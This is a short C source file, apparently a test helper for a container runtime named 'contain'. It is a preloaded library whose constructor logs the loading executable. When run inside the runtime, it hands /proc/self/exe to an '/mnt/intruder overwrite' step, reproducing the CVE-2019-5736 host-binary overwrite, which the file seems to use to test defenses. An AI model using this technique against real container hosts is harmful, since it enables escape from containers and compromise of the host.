/* SPDX-License-Identifier: MIT */
/*
 * A library that an image or a command's environment wants to have loaded. It says by what: to /mnt/loaded, or beside where
 * LD_PRELOAD has it from. In contain's own code it would go on as CVE-2019-5736 did.
 */
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void loaded(void)
{
	const char *from = getenv("LD_PRELOAD");
	char exe[PATH_MAX] = "", path[PATH_MAX], number[16];
	int to;

	if (readlink("/proc/self/exe", exe, sizeof(exe) - 2) < 0)
		return;
	strcat(exe, "\n");
	snprintf(path, sizeof(path), "%s.loaded", from ? from : "/mnt/preload.so");
	to = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
	if (to < 0 || write(to, exe, strlen(exe)) < 0 || !strstr(exe, "contain"))
		return;
	/* Not busy any more, when this process runs something else. */
	to = open("/proc/self/exe", O_RDONLY);
	snprintf(number, sizeof(number), "/proc/self/fd/%d", to);
	execl("/mnt/intruder", "intruder", "overwrite", number, (char *)NULL);
}
